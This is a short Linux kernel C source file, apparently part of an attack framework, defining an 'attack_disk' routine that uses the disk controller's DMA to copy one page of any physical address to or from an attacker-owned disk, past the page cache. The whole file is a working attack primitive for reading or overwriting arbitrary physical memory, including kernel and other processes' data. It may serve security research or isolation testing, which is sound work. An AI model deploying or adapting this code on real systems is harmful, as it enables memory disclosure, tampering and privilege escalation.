// SPDX-License-Identifier: GPL-2.0-only
/*
 * DMA by the disk's controller: one page of any address, to or from a disk of
 * the attacker's own, past the page cache.
 */
#include <linux/bio.h>
#include <linux/blkdev.h>
#include <linux/mm.h>
#include "flexattack.h"

#define DISK "/dev/vdb"

/* in|out PA SECTOR: `in` copies a page from memory to the disk, `out` from the disk to memory. ret: what the disk says of
 * it, which is nothing about what moved. */
int attack_disk(int argc, char **argv, struct seq_buf *out)
{
	struct file *disk;
	struct bio *bio;
	bool to_memory;
	u64 pa, sector;
	int ret;

	if (argc != 3 || attack_number(argv[1], &pa) || attack_number(argv[2], &sector) || offset_in_page(pa))
		return -EINVAL;
	to_memory = argv[0][0] == 'o';
	disk = bdev_file_open_by_path(DISK, BLK_OPEN_READ | BLK_OPEN_WRITE, NULL, NULL);
	if (IS_ERR(disk))
		return PTR_ERR(disk);
	bio = bio_alloc(file_bdev(disk), 1, (to_memory ? REQ_OP_READ : REQ_OP_WRITE) | REQ_SYNC, GFP_KERNEL);
	bio->bi_iter.bi_sector = sector;
	__bio_add_page(bio, phys_to_page(pa), PAGE_SIZE, 0);
	ret = submit_bio_wait(bio);
	bio_put(bio);
	fput(disk);
	seq_buf_printf(out, "ret: %d\n", ret);
	return 0;
}
